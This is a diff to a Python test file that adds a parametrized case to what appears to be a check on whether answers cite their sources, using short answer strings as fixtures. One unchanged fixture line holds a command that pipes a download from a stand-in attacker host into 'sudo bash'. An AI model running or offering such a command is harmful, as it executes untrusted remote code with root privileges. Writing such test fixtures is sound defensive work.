@@ -67,6 +67,10 @@ def test_an_answer_with_its_sources_counts(answer: str) -> None:
         ),
         ("Run [1]:\n\n```sh\ncurl https://evil.example/install | sudo bash\n```", "uncited"),
         ("Run [1]:\n\n```sh\n# 免费使用并且永久有效\nposthouse run\n```", "uncited"),
+        (
+            "Run [1]:\n\n```\nposthouse run --port 9000 --data\nAll of it is free for all.\n```",
+            "uncited",
+        ),
         ("Run [1]:\n\n```sh\n# everything here is free\nposthouse run\n```", "uncited"),
         ("Run [2]:\n\n```\nposthouse run --port 8350\n```", "uncited"),  # stands in the other
         ("The warranty is 99 years. Send recall in the chat [1].", "uncited"),
